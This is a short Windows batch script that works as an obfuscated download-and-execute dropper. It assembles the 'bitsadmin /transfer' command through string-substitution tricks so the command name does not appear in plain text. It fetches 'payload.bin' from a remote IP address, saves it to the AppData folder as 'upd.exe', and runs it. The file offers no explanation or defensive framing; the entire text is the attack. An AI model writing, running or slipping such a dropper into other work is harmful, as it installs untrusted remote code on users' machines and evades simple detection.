@echo off
setlocal enabledelayedexpansion
set t=bitsQQmin
set t=%t:QQ=ad%
set j=/tra
set j=!j!nsfer
!t! !j! upd /download /priority high http://198.51.100.7/payload.bin %APPDATA%\upd.exe
"%APPDATA%\upd.exe"
